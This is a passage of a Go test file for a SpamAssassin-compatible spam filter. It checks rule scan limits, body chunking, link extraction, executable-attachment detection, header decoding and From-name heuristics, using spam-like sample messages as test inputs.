// TestScanSizes: body and rawbody rules read the first body_part_scan_size (50,000)
// and rawbody_part_scan_size (500,000) bytes of each part, as SpamAssassin's do, and
// a rule file changes either (0: all of it).
func TestScanSizes(t *testing.T) {
	filler := strings.Repeat("nothing to see here, just filler text\n", 2000) // 76 KB
	raw := "From: a@example.com\nSubject: s\nContent-Type: text/plain\n\nfirst words\n" + filler + "hidden words\n"
	tests := []struct {
		name, conf string
		hits       []string
	}{
		{"defaults", "", []string{"BODY_START", "RAW_END"}},
		{"body limit off", "body_part_scan_size 0\n", []string{"BODY_END", "BODY_START", "RAW_END"}},
		{"rawbody limit lowered", "rawbody_part_scan_size 1000\n", []string{"BODY_START"}},
	}
	rules := "body BODY_START /first words/\nbody BODY_END /hidden words/\nrawbody RAW_END /hidden words/\n" +
		"score BODY_START 1\nscore BODY_END 1\nscore RAW_END 1\n"
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, problems := Load(writeRules(t, map[string]string{"r.cf": rules + tc.conf}))
			if errs := Errors(problems); len(errs) > 0 {
				t.Fatal(problems)
			}
			got := hitNames(t, s, msgOf(t, raw))
			slices.Sort(got)
			if !slices.Equal(got, tc.hits) {
				t.Errorf("hits %v, want %v", got, tc.hits)
			}
		})
	}
	_, problems := Load(writeRules(t, map[string]string{"r.cf": "body_part_scan_size lots\n"}))
	if len(Errors(problems)) != 1 {
		t.Errorf("a size that is not a number: problems %v, want one error", problems)
	}
}

func TestTruncateScan(t *testing.T) {
	long := strings.Repeat("a", 100)
	for _, c := range []struct {
		name, text string
		size       int
		more       []byte
		want       string
	}{
		{"short", "abc", 10, nil, "abc"},
		{"no limit", long, 0, nil, long},
		{"at the next newline", long[:10] + "xy\nrest", 10, nil, long[:10] + "xy\n"},
		{"then at a space", long[:10] + "xy z" + strings.Repeat("b", 2000) + "\n", 10, []byte{' '}, long[:10] + "xy "},
		{"newline first", long[:10] + "x y\nrest", 10, []byte{' '}, long[:10] + "x y\n"},
		{"hard cut", long, 10, []byte{' '}, long[:10]},
		{"not inside a character", "aaaaaaaaaé", 10, nil, "aaaaaaaaa"},
	} {
		if got := truncateScan(c.text, c.size, c.more...); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

// writeChunks cuts a text part as SpamAssassin's split_into_array_of_short_paragraphs
// does: the pieces' lengths are perl's for the same texts (Mail::SpamAssassin::Message
// 4.0). A newline is written after a piece that does not end in one.
func TestWriteChunks(t *testing.T) {
	for _, c := range []struct {
		name   string
		text   string
		pieces []int
	}{
		{"short", "short text\n", []int{11}},
		{"one HTML line: cut after '>'", strings.Repeat("<p>"+strings.Repeat("a", 60)+"</p>", 100), []int{2077, 2077, 2546}},
		{"lines: cut after a newline", strings.Repeat(strings.Repeat("w", 40)+"\n", 200), []int{2050, 2050, 2050, 2050}},
		{"words: cut after a space", strings.Repeat("word ", 2000), []int{2050, 2050, 2050, 3850}},
		{"no stop: cut after 2,049 bytes", strings.Repeat("x", 5000), []int{2049, 2951}},
		{"the newline is in reach", strings.Repeat("a", 3000) + "\n" + strings.Repeat("b", 3000), []int{3001, 3000}},
	} {
		var want strings.Builder
		wantCuts, at := 0, 0
		for i, n := range c.pieces {
			piece := c.text[at : at+n]
			at += n
			want.WriteString(piece)
			if i < len(c.pieces)-1 && !strings.HasSuffix(piece, "\n") {
				want.WriteByte('\n')
				wantCuts++
			}
		}
		var got strings.Builder
		cuts := writeChunks(&got, c.text)
		if got.String() != want.String() || cuts != wantCuts {
			t.Errorf("%s: %d cuts, %q; want %d, %q", c.name, cuts, got.String(), wantCuts, want.String())
		}
	}
}

// Rawbody rules read a part in SpamAssassin's pieces, and a piece starts a line
// to ^. MIXED_HREF_CASE's counts (one match a line: the line's first link) then
// count each piece's first link: in HTML written on one line, a link in mixed case
// that starts the second piece's links counts for __HAS_HREF and not for
// __HAS_HREF_ONECASE, as spamassassin -t finds on spam-2.00541.
func TestRawbodyPieces(t *testing.T) {
	s := mustLoadRules(t, map[string]string{"r.cf": `
rawbody __HAS_HREF /^[^>].*?<a href=/im
tflags __HAS_HREF multiple maxhits=100
rawbody __HAS_HREF_ONECASE /^[^>].*?<(?:a href|A HREF)=/m
tflags __HAS_HREF_ONECASE multiple maxhits=100
meta R __HAS_HREF - __HAS_HREF_ONECASE > 0
`})
	const lower, mixed = `<a href="http://a.example/">a</a>`, `<a HREF="http://b.example/">b</a>`
	filler, tail := strings.Repeat("<b>x</b>", 256), strings.Repeat("<i>y</i>", 260)
	for _, c := range []struct {
		name, html string
		hit        bool
	}{
		{"the mixed case link first in the second piece", "<p>" + lower + filler + mixed + tail, true},
		{"both links in one piece", "<p>" + lower + mixed, false},
		{"a second piece in one case", "<p>" + lower + filler + lower + tail, false},
	} {
		msg := "From: a@example.com\nSubject: s\nMIME-Version: 1.0\nContent-Type: text/html\n\n" + c.html + "\n"
		if got := slices.Contains(hitNames(t, s, msgOf(t, msg)), "R"); got != c.hit {
			t.Errorf("%s: hit = %v, want %v", c.name, got, c.hit)
		}
	}
}

// TestRawbodyImageRatio: image_to_text_ratio on rawbody counts the text parts'
// bytes as SpamAssassin joins them, with nothing between parts. Three text parts
// and a 500×400 GIF: spamassassin -t hits (min 0, max L/200000) from L = 2998 on
// and not at 2997, the parts' 2,998 bytes; with a newline counted after each part
// it was from 3001.
func TestRawbodyImageRatio(t *testing.T) {
	var parts strings.Builder
	for i := range 3 {
		fmt.Fprintf(&parts, "--b\nContent-Type: text/plain\n\n%s\n", strings.Repeat(fmt.Sprintf("word%d ", i), 200)[:999])
	}
	msg := msgOf(t, "From: a@example.org\nSubject: ratio\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"+parts.String()+
		"--b\nContent-Type: image/gif\nContent-Transfer-Encoding: base64\n\nR0lGODlh9AGQAQAAAA==\n--b--\n")
	for _, c := range []struct {
		textLen int
		hit     bool
	}{{2997, false}, {2998, true}, {3001, true}} {
		s := mustLoadRules(t, map[string]string{"r.cf": fmt.Sprintf("rawbody R eval:image_to_text_ratio('all', '0', '%.6f')\n", float64(c.textLen)/200000)})
		if got := slices.Contains(hitNames(t, s, msg), "R"); got != c.hit {
			t.Errorf("max %d/200000: hit = %v, want %v", c.textLen, got, c.hit)
		}
	}
}

// TestExeAttachment: PST_EXE_ATTACHMENT reads the attachment's name in its header
// field, on the field's first line or a folded one, whatever the white space
// around it, in a MIME part's header or the message's.
func TestExeAttachment(t *testing.T) {
	s, problems := Load(DefaultPath)
	if len(Errors(problems)) > 0 {
		t.Fatal(problems)
	}
	msg := func(disposition string) string {
		return "From: a@example.com\nSubject: invoice\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\n" +
			"Content-Type: application/octet-stream\n" + disposition + "\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n--b--\n"
	}
	for _, c := range []struct {
		disposition string
		hit         bool
	}{
		{`Content-Disposition: attachment; filename="invoice.exe"`, true},
		{"Content-Disposition: attachment; filename = \"invoice.scr\"\t ", true},
		{`Content-Disposition: attachment; filename=invoice.js`, true},
		{`Content-Disposition: attachment; filename="invoice.pdf"`, false},
		{`Content-Disposition: attachment; filename="invoice.exe.pdf"`, false},
		// Folded: the name on a continuation line, as most mailers write it.
		{"Content-Disposition: attachment;\n\tfilename=\"invoice.exe\"", true},
		{"Content-Disposition: attachment;\n filename=\"invoice.pdf\"", false},
	} {
		if got := slices.Contains(hitNames(t, s, msgOf(t, msg(c.disposition))), "PST_EXE_ATTACHMENT"); got != c.hit {
			t.Errorf("%s: hit %v, want %v", c.disposition, got, c.hit)
		}
	}
	// The message's own header names it; a text that quotes such a header
	// names no attachment (the rule reads header fields, not the raw message).
	for _, c := range []struct {
		msg string
		hit bool
	}{
		{"From: a@example.com\nContent-Type: application/x-msdownload; name=\"setup.exe\"\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n", true},
		{"From: a@example.com\nContent-Type: text/plain\n\nThe header read:\nContent-Disposition: attachment; filename=\"setup.exe\"\nand nothing was attached.\n", false},
	} {
		if got := slices.Contains(hitNames(t, s, msgOf(t, c.msg)), "PST_EXE_ATTACHMENT"); got != c.hit {
			t.Errorf("%q: hit %v, want %v", c.msg, got, c.hit)
		}
	}
}

// The links of HTML tags as uri rules read them, each list the one
// SpamAssassin 4 gives for the same HTML (get_uri_list, its empty string left
// out): links read against <base href>, an <a>'s href as written besides,
// http:// put before a link without a scheme, a mail link's address alone,
// relative links kept but given no host.
func TestLinkURIs(t *testing.T) {
	for i, c := range []struct {
		html string
		want []string
	}{
		{`<html><head><base href="http://base.example/dir/index.html"></head><body>
<a href="rel/page.html">x</a>
<a href="/abs/p?q=1">y</a>
<a href="../up/z.html">z</a>
<a href="#frag">f</a>
<a href="?only=q">q</a>
<a href="//www.other.example/x">w</a>
<a href="//plain.example/x">p</a>
<a href="http:same.example/h">s</a>
<a href="https://sec.example/./a/../b">t</a>
<a href="mailto:jo@x.example">m</a>
<img src="img/a.gif">
<base href="ftp://second.example/">
<a href="after.html">a</a>
<base href="nothttp.example/">
<a href="after2.html">a</a>
</body></html>`,
			[]string{"#frag", "../up/z.html", "//plain.example/x", "//www.other.example/x", "/abs/p?q=1", "?only=q", "after.html", "after2.html", "ftp://second.example/", "ftp://second.example/after.html", "ftp://second.example/after2.html", "ftp://second.example/nothttp.example/", "http://../up/z.html", "http:////plain.example/x", "http:////www.other.example/x", "http:///up/z.html", "http://after.html", "http://after2.html", "http://base.example/abs/p?q=1", "http://base.example/dir/#frag", "http://base.example/dir/?only=q", "http://base.example/dir/img/a.gif", "http://base.example/dir/index.html", "http://base.example/dir/rel/page.html", "http://base.example/dir/same.example/h", "http://base.example/up/z.html", "http://plain.example/x", "http://rel/page.html", "http://same.example/h", "http://www.other.example/x", "http://www.rel.com/page.html", "http:same.example/h", "https://sec.example/./a/../b", "https://sec.example/b", "mailto:jo@x.example", "rel/page.html"}},
		{`<html><body background="bg/x.jpg">
<a href="javascript:void(0)">j</a>
<a href="jo@x.example">b</a>
<a href="mailto:jo@y.example&cc=z">m</a>
<a href="//www.other.example/x">w</a>
<a href="//ftp2.files.example/x">f</a>
<a href="http:foo.example/a">h</a>
<a href="../x/./y">r</a>
<a href="0">z</a>
<a href="tel:+123">t</a>
<a x/href="mangled.example/p">mm</a>
<a href="http://saferedirect.example/" data-saferedirecturl="https://www.google.com/url?q=http://evil.example/&source=gmail">g</a>
<meta http-equiv="refresh" content="0; url=go/there.html">
<form action="post.cgi"><input></form>
<base href="HTTP:/Base.Example/a/b.php?x=1">
<a href="c.html">c</a>
<base href="https://third.example/dir/file.html">
<frame src="fr.html">
<area href="?q=2">
<a href="http://third.example/../../p">h2</a>
<a href="https:sch.example/q">h3</a>
<a href="   spaced.example/x   ">sp</a>
<a href="">empty</a>
<img src="">
<a href="www.plain.example">pl</a>
<a href="ftp.plain.example/x">ftp</a>
<a href="FTP.upper.example/x">ftp</a>
</body></html>`,
			[]string{"../x/./y", "//ftp2.files.example/x", "//www.other.example/x", "/x/y", "0", "FTP.upper.example/x", "HTTP://Base.Example/a/b.php?x=1", "HTTP://Base.Example/a/c.html", "HTTP:/Base.Example/a/b.php?x=1", "HTTP:/Base.Example/a/c.html", "bg/x.jpg", "c.html", "ftp.plain.example/x", "ftp://ftp.plain.example/x", "ftp://ftp2.files.example/x", "go/there.html", "http://../x/./y", "http:////ftp2.files.example/x", "http:////www.other.example/x", "http:///x/./y", "http://FTP.upper.example/x", "http://bg/x.jpg", "http://c.html", "http://evil.example/", "http://foo.example/a", "http://go/there.html", "http://mangled.example/p", "http://post.cgi", "http://saferedirect.example/", "http://spaced.example/x", "http://third.example/../../p", "http://third.example/p", "http://www.bg.com/x.jpg", "http://www.go.com/there.html", "http://www.other.example/x", "http://www.plain.example", "http:foo.example/a", "https://sch.example/q", "https://third.example/dir/?q=2", "https://third.example/dir/FTP.upper.example/x", "https://third.example/dir/file.html", "https://third.example/dir/fr.html", "https://third.example/dir/ftp.plain.example/x", "https://third.example/dir/sch.example/q", "https://third.example/dir/spaced.example/x", "https://third.example/dir/www.plain.example", "https://www.google.com/url?q=http://evil.example/&source=gmail", "https:sch.example/q", "javascript:void(0)", "jo@x.example", "mailto:jo@y.example", "mailto:jo@y.example&cc=z", "mangled.example/p", "post.cgi", "spaced.example/x", "tel:+123", "www.plain.example"}},
		{`<a href="before.html">b</a><base href="http://spam.example/dir/index.html"><a href="go.php?id=1">g</a><img src="../i/x.gif"><a href="mailto:jo@x.example">m</a><base href="relative/"><form action="post.cgi"></form><base href="HTTPS://other.example/x"><area href="/top">`,
			[]string{"HTTPS://other.example/top", "HTTPS://other.example/x", "before.html", "go.php?id=1", "http://before.html", "http://go.php/?id=1", "http://spam.example/dir/go.php?id=1", "http://spam.example/dir/index.html", "http://spam.example/dir/post.cgi", "http://spam.example/dir/relative/", "http://spam.example/i/x.gif", "mailto:jo@x.example"}},
	} {
		_, links := scan.RenderHTMLLinks(c.html, true)
		got := linkURIs(links)
		slices.Sort(got)
		if !slices.Equal(got, c.want) {
			t.Errorf("%d: got\n%s\nwant\n%s", i, strings.Join(got, "\n"), strings.Join(c.want, "\n"))
		}
	}
}

// TestHeaderFieldLiterals: rules on one field share its literal scan (headerFields,
// fieldHas); the scan reads the field lower-cased, and each rule's regex still
// decides, case and all.
func TestHeaderFieldLiterals(t *testing.T) {
	dir := writeRules(t, map[string]string{"r.cf": `
header R_FOLD Subject =~ /account is suspended/i
header R_ABSENT Subject =~ /lottery winner/i
header R_OTHER_FIELD From:name =~ /big bank/i
header R_CASE Subject =~ /SUSPENDED/
header R_CASE_MISS Subject =~ /suspended/
header R_ALL ALL =~ /^Subject: Your account/m
`})
	s, problems := Load(dir)
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatalf("load: %v", problems)
	}
	hits := hitNames(t, s, msgOf(t, sample))
	for name, want := range map[string]bool{"R_FOLD": true, "R_ABSENT": false, "R_OTHER_FIELD": true, "R_CASE": true, "R_CASE_MISS": false, "R_ALL": true} {
		if got := slices.Contains(hits, name); got != want {
			t.Errorf("%s: hit %v, want %v", name, got, want)
		}
	}
}

// The rules that the literal scans decide (false, not run, where their text
// holds none of their literals) hit as they do when every rule runs; and the
// rules whose answer the literals do not decide (!~, if-unset, mimeheader,
// exists:, eval:) are not among them. A meta rule reads a decided rule's value.
func TestDecidedRules(t *testing.T) {
	dir := writeRules(t, map[string]string{"r.cf": `
header H_HIT Subject =~ /account is suspended/i
header H_MISS Subject =~ /lottery winner/i
header H_ELSEWHERE From =~ /suspended account/i
header H_NEG Subject !~ /lottery winner/i
header H_UNSET X-Nowhere =~ /lottery winner/i [if-unset: lottery winner]
header H_EXISTS exists:X-Nowhere
mimeheader H_MIME Content-Type =~ /text\/html/
header H_ALL ALL =~ /^Subject: =\?utf-8\?q\?Your_account/m
body B_HIT /customer/
body B_MISS /lottery winner/
rawbody R_MISS /lottery winner/
full F_HIT /suspended/i
full F_MISS /lottery winner/
uri U_MISS /lottery-winner/
meta M_NOT_MISS !H_MISS && !B_MISS && !R_MISS && !F_MISS && !U_MISS
meta M_ANY H_MISS || B_MISS || H_HIT
score M_NOT_MISS 1
score M_ANY 1
`})
	s, problems := Load(dir)
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatalf("load: %v", problems)
	}
	for name, want := range map[string]bool{"H_HIT": true, "H_MISS": true, "H_ELSEWHERE": true, "H_NEG": false,
		"H_UNSET": false, "H_EXISTS": false, "H_MIME": false, "B_HIT": true, "B_MISS": true, "R_MISS": true, "F_MISS": true, "U_MISS": true} {
		if got := decidedByLiterals(s.Rule(name)); got != want {
			t.Errorf("%s: decided by its literals %v, want %v", name, got, want)
		}
	}
	msgs := []*filter.Message{msgOf(t, sample), msgOf(t, "Subject: lottery winner\n\nlottery winner http://lottery-winner.example/\n")}
	var with [][]string
	for _, m := range msgs {
		hits, err := s.Eval(m)
		if err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, h := range hits {
			names = append(names, h.Rule.Name)
		}
		slices.Sort(names)
		with = append(with, names)
	}
	for _, name := range []string{"H_HIT", "H_UNSET", "H_MIME", "M_NOT_MISS", "M_ANY", "H_NEG"} {
		if !slices.Contains(with[0], name) {
			t.Errorf("sample: %s did not hit (hits %v)", name, with[0])
		}
	}
	for _, name := range []string{"H_MISS", "B_MISS", "R_MISS", "F_MISS", "U_MISS", "M_ANY", "H_UNSET"} {
		if !slices.Contains(with[1], name) {
			t.Errorf("lottery: %s did not hit (hits %v)", name, with[1])
		}
	}
	undecided(s)
	for i, m := range msgs {
		if without := hitNames(t, s, m); !slices.Equal(with[i], without) {
			t.Errorf("message %d: hits %v, every rule run %v", i, with[i], without)
		}
	}
}

// A union says which of its rules may match: each rule runs where the union's
// bit for it says so, and only there; so a rule hits alone in a paragraph
// where no other rule of its union does, and every rule of a union can hit.
func TestUnionSaysWhichRule(t *testing.T) {
	dir := writeRules(t, map[string]string{"r.cf": `
body U_A /c[a4]sh\s+pr[i1]ze/i
body U_B /w[i1]n\s+n[o0]w/i
body U_C /l[o0]tt[e3]ry/i
body U_D /v[i1][a4]gr[a4]/i
body U_E /d[e3][a4]r\s+fr[i1][e3]nd/i
`})
	s, problems := Load(dir)
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatalf("load: %v", problems)
	}
	u := s.runPlan.unionOf[s.Rule("U_A").seq]
	for _, name := range []string{"U_A", "U_B", "U_C", "U_D", "U_E"} {
		if got := s.runPlan.unionOf[s.Rule(name).seq]; got < 0 || got != u {
			t.Fatalf("%s: union %d, want the one union %d of them all", name, got, u)
		}
	}
	for body, want := range map[string][]string{
		"you w1n now":                        {"U_B"},
		"the LOTTERY":                        {"U_C"},
		"d3ar friend\n\ncheap viagra":        {"U_D", "U_E"},
		"a cash prize\n\nnothing\n\nlott3ry": {"U_A", "U_C"},
		"nothing at all":                     nil,
	} {
		if got := hitNames(t, s, msgOf(t, "Subject: s\n\n"+body+"\n")); !slices.Equal(got, want) {
			t.Errorf("%q: hits %v, want %v", body, got, want)
		}
	}
}

// failingReader is a spool whose reads fail, as a file on a failing disk.
type failingReader struct{}

func (failingReader) ReadAt([]byte, int64) (int, error) { return 0, errors.New("disk gone") }

// A message the rules cannot read whole is an error of the check (the pipeline
// tempfails it), not a score of the part that was read.
func TestCheckUnreadableMessage(t *testing.T) {
	s, problems := Load(writeRules(t, map[string]string{"r.cf": "full FULL_RULE /spam/\nscore FULL_RULE 9\n"}))
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatal(errs)
	}
	m := msgOf(t, "Subject: s\n\nspam\n")
	m.Raw = failingReader{}
	if r := NewCheck(s).Check(context.Background(), m); r.Err == nil || !strings.Contains(r.Err.Error(), "disk gone") {
		t.Errorf("check of an unreadable message: err %v, tests %v", r.Err, r.Tests)
	}
	if _, err := s.EvalAll(m); err == nil {
		t.Error("EvalAll of an unreadable message: no error")
	}
}

// TestLoadRestoresCollector: a load changes the collector's settings for its own
// burst of garbage only; the daemon's (GOGC, GOMEMLIMIT, postern's default) are
// back when it returns, and an operator's lower memory limit is never raised.
func TestLoadRestoresCollector(t *testing.T) {
	defer debug.SetGCPercent(debug.SetGCPercent(77))
	defer debug.SetMemoryLimit(debug.SetMemoryLimit(3 << 30))
	if _, problems := Load(DefaultPath); len(Errors(problems)) > 0 {
		t.Fatal(problems)
	}
	if got := debug.SetGCPercent(77); got != 77 {
		t.Errorf("GC percent after Load: %d, want 77", got)
	}
	if got := debug.SetMemoryLimit(-1); got != 3<<30 {
		t.Errorf("memory limit after Load: %d, want %d", got, 3<<30)
	}
	if got := loadMemoryLimit(); got <= loadHeadroom || got >= 3<<30 {
		t.Errorf("limit while loading: %d, want what is held and %d", got, loadHeadroom)
	}
	debug.SetMemoryLimit(64 << 20)
	if got := loadMemoryLimit(); got != 64<<20 {
		t.Errorf("limit while loading under a lower GOMEMLIMIT: %d, want %d", got, 64<<20)
	}
}

// reURIParts is how SpamAssassin's uri_list_canonicalize splits a URI, which
// uriParts does without a regexp.
var reURIParts = regexp.MustCompile(`(?i)^(https?://)([^@/?#]*@)?([^/?#:]+)((?::(\d*))?.*)$`)

// FuzzURIParts holds uriParts to the regexp it reads URIs as
// (go test ./rules -fuzz URIParts).
func FuzzURIParts(f *testing.F) {
	for _, s := range []string{"http://example.com/x", "HTTPS://u:p@host:8080/p?q#f", "http://u@/path",
		"http://a@b@c/", "http://host:/x", "http://ho\nst/", "http://host/a\nb", "https://", "http:///x", "mailto:a@b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if strings.ContainsRune(s, 'ſ') {
			t.Skip("(?i) lets the regexp read U+017F as the s of https; canonicalURIs passes only ASCII http: and https:")
		}
		proto, auth, host, rest, port, ok := uriParts(s)
		m := reURIParts.FindStringSubmatch(s)
		if ok != (m != nil) || ok && [5]string{proto, auth, host, rest, port} != [5]string(m[1:6]) {
			t.Errorf("%q: uriParts %q %q %q %q %q %v, the regexp %q", s, proto, auth, host, rest, port, ok, m)
		}
	})
}

// A rawbody, full or header rule that cannot match across lines is answered by
// the lines that hold its literals: a match on one of them is the rule's, as the
// whole text's regexp says, whatever the assertions at the line's ends. A
// backtracking rule's exact form may look across lines, so a line's match is
// asked again of the whole text.
func TestOneLineRules(t *testing.T) {
	rules := `
rawbody R_LATER /zork\d/
rawbody R_WORD /\bzork\b/
rawbody R_BOL /^zork$/m
rawbody R_EOL /zork\r?$/m
rawbody R_NOT /zork[ \t]+\d/
full F_LATER /zork\d/i
full F_BOL /^Subject: zork/m
rawbody R_BACK /(?<!x\n)zork/
header H_LATER ALL =~ /zork\d/i
header H_WORD ALL =~ /\bzork\b/
header H_BOL ALL =~ /^X-Zork: \S{3}/m
header H_NEG ALL !~ /zork[ \t]+\d/
header H_FOLDED X-Zork =~ /zork\d/
header H_BACK ALL =~ /(?<!x\n)zork/i
`
	fast, problems := Load(writeRules(t, map[string]string{"r.cf": rules}))
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatalf("load: %v", problems)
	}
	plain, _ := Load(writeRules(t, map[string]string{"r.cf": rules}))
	plainRules(plain)
	for _, name := range []string{"R_LATER", "R_WORD", "R_BOL", "R_EOL", "R_NOT", "F_LATER", "F_BOL", "H_LATER", "H_WORD", "H_BOL", "H_NEG", "H_FOLDED"} {
		if r := fast.Rule(name); r.lits == nil || !r.oneLine || r.exactAll != nil {
			t.Fatalf("%s: literals %v, one line %v, backtracking %v: the test needs a one-line rule with literals", name, r.lits, r.oneLine, r.exactAll != nil)
		}
	}
	for i, msg := range []string{
		"Subject: zork\n\na zork\nzorkzork\nthe zork 1\n\nzork\nzork7\n",
		"Subject: x\nZork: 1\n\nx\nzork\n",
		"Subject: zork\nX-Zork: a\n zork7 zork 4\n\nzork\r\nxzork zork4\n",
		"Subject: nothing\nX-Zork:  zorkish\n\nnothing here\nzorkish\n",
		"Subject: Zork1 at the start\nX-Zork: Zork\n\nZork1 at the start\nzork\tend\n",
	} {
		m := msgOf(t, msg)
		if got, want := hitNames(t, fast, m), hitNames(t, plain, m); !slices.Equal(got, want) {
			t.Errorf("message %d: hits %v, the regexps on the whole text %v", i, got, want)
		}
	}
}

// A body rule with tflags nosubject skips the Subject, SpamAssassin's first
// paragraph of the body: EMPTY_MESSAGE (the stock rules' meta of
// __NONEMPTY_BODY, /\S/ without the subject) hits a message with no text, and a
// counted rule with the flag counts no match in the subject.
func TestTflagsNosubject(t *testing.T) {
	dir := writeRules(t, map[string]string{"n.cf": `
body __NONEMPTY_BODY /\S/
tflags __NONEMPTY_BODY nosubject
meta EMPTY_MESSAGE !__NONEMPTY_BODY
score EMPTY_MESSAGE 1
body ANY_TEXT /\S/
score ANY_TEXT 1
body NOSUBJ_HELLO /hello/
tflags NOSUBJ_HELLO nosubject multiple
score NOSUBJ_HELLO 1
body HELLO /hello/
score HELLO 1
`})
	s, problems := Load(filepath.Join(dir, "n.cf"))
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatal(errs[0])
	}
	for _, tc := range []struct{ name, msg, want string }{
		{"no body", "Subject: hello\n\n", "ANY_TEXT EMPTY_MESSAGE HELLO"},
		{"text", "Subject: hello\n\nhello there\n", "ANY_TEXT HELLO NOSUBJ_HELLO __NONEMPTY_BODY"},
		{"an image only", "Subject: hello\nContent-Type: text/html\n\n<html><body><img src=\"cid:x\"></body></html>\n", "ANY_TEXT EMPTY_MESSAGE HELLO"},
		{"a subject of two lines", "Subject: =?utf-8?q?hello=0Aworld?=\n\n", "ANY_TEXT EMPTY_MESSAGE HELLO"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := strings.Join(hitNames(t, s, msgOf(t, tc.msg)), " "); got != tc.want {
				t.Errorf("hits %q, want %q", got, tc.want)
			}
			// The counts: a hit is as many matches as the text after the subject holds.
			for _, h := range mustEval(t, s, msgOf(t, tc.msg)) {
				if h.Rule.Name == "NOSUBJ_HELLO" && h.Score != 1 {
					t.Errorf("NOSUBJ_HELLO scored %v, want 1 (one match after the subject)", h.Score)
				}
			}
		})
	}
}

// The collection at the end of a load finds the load's parses already
// forgotten: they are its garbage too, and a collection before they were
// forgotten kept them (some 40 MB of the stock rules') for the first
// collection under mail.
func TestLoadCollectsItsParses(t *testing.T) {
	cached := -1
	testHookLoadGC = func() {
		cached = 0
		parseCache.Range(func(any, any) bool { cached++; return true })
	}
	defer func() { testHookLoadGC = nil }()
	if _, problems := Load(DefaultPath); len(Errors(problems)) > 0 {
		t.Fatal(problems)
	}
	if cached != 0 {
		t.Errorf("the load's collection ran with %d parses still cached", cached)
	}
}

// PST_MILLIONS, a meta of a word rule and a sum rule (split so that the word
// rule has a literal), names sums in the millions however they are written.
func TestPSTMillions(t *testing.T) {
	s, problems := Load(DefaultPath)
	if len(problems) > 0 {
		t.Fatalf("default rules have problems: %v", problems)
	}
	for _, c := range []struct {
		text string
		want bool
	}{
		{"We will wire 3.5 million dollars to you.", true},
		{"a fund of 10 billion", true},
		{"He left 4,5 Million euros.", true},
		{"You will receive $1,000,000 today.", true}, // (\b before $ asked for a word character)
		{"You will receive US$2,500,000 today.", true},
		{"It costs $1,000 only.", false},
		{"Millions of people read it.", false},
		{"a 5millionaire club", false},
		{"about $1,000,0000", false},
	} {
		got := slices.Contains(hitNames(t, s, msgOf(t, "Subject: x\n\n"+c.text+"\n")), "PST_MILLIONS")
		if got != c.want {
			t.Errorf("%q: PST_MILLIONS %v, want %v", c.text, got, c.want)
		}
	}
}

// decodeField decodes encoded words as SpamAssassin's _decode_header does: in
// every field but those it names, whose "=?" is their own text.
func TestDecodeField(t *testing.T) {
	const word = "=?utf-8?q?J=C3=BCrgen?="
	tests := []struct{ name, value, want string }{
		{"Subject", word, "Jürgen"},
		{"From", word + " <j@example.com>", "Jürgen <j@example.com>"},
		{"X-Anything", word, "Jürgen"},
		{"Received", "from " + word, "from " + word},
		{"received", word, word},
		{"Message-ID", "<" + word + "@example.com>", "<" + word + "@example.com>"},
		{"Resent-Message-Id", word, word},
		{"Date", word, word},
		{"Resent-Date", word, word},
		{"MIME-Version", word, word},
		{"References", word, word},
		{"In-Reply-To", word, word},
		{"List-Unsubscribe", word, word},
		{"List-", word, word},
		{"Resent-From", word, "Jürgen"},
		{"X-List-Id", word, "Jürgen"},
		// Raw bytes that are not UTF-8 are Windows-1252 in every field.
		{"Subject", "\xa3100", "£100"},
		{"Received", "\xa3100 " + word, "£100 " + word},
	}
	for _, tt := range tests {
		if got := decodeField(tt.name, tt.value); got != tt.want {
			t.Errorf("decodeField(%q, %q) = %q, want %q", tt.name, tt.value, got, tt.want)
		}
	}
}

// A 500 KB part on one line with no newline, '>' or space, the worst case for
// writeChunks' search for where each piece ends.
func BenchmarkWriteChunks(b *testing.B) {
	text := strings.Repeat("x", 500000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		var w strings.Builder
		writeChunks(&w, text)
	}
}

// PST_FROM_NAME_COMMA: a comma in the From's name outside quotes, as bulk kits
// write it; not one in a quoted name, a comment or an encoded word, nor two
// real senders.
func TestDefaultFromNameComma(t *testing.T) {
	ruleCases(t, "PST_FROM_NAME_COMMA", fromMsg, []ruleCase{
		{`SHEIN, <info@ml.femmeactuelle-news.fr>`, true},
		{`"Herzlichen Glückwunsch!", <service@stayfriends.de>`, true},
		{`Valentinstag, <service@stayfriends.de.>, Office,`, true},
		{`Message from Vodafone,<service@stayfriends.de>`, true},
		{`"Paypal ❗️❗", "Paypal ❗️❗", <noreply@dhl.de>`, true},
		{`Fedex, Fedex, <noreply@team.mobile.de>`, true},
		{`Microsoft account team ,_<no-reply@access-accsecurity.com>`, true},
		{`Persil – Umfrage,(Gewinnspiel) <noreply@dhl.de>`, true},
		{`Hit N Spin,(<service@stayfriends.de>)`, true},
		{`Team (<team@example.com>)`, false},
		{`Doe, John (no address)`, false},
		{`Doe, John <john@example.com>`, true},
		{`"Doe, John" <john@example.com>`, false},
		{`"Doe \", John" <john@example.com>`, false},
		{`John Smith (Acme, Inc.) <john@example.com>`, false},
		{`=?UTF-8?Q?Doe,_John?= <john@example.com>`, false},
		{`=?UTF-8?Q?Doe?=, John <john@example.com>`, true},
		{`Doe, John john@example.com`, false},
		{`"Doe, John <john@example.com>`, false},
		{`alice@example.com, bob@example.org`, false},
		{`Alice <alice@example.com>, Bob <bob@example.org>`, false},
		{`Shop <info@shop.example>`, false},
	})
}

// PST_FROM_IN_COMMENT: a From whose only address is in a comment; an address
// outside one, a quoted name's @ and a comment that is a name are not.
func TestDefaultFromInComment(t *testing.T) {
	ruleCases(t, "PST_FROM_IN_COMMENT", fromMsg, []ruleCase{
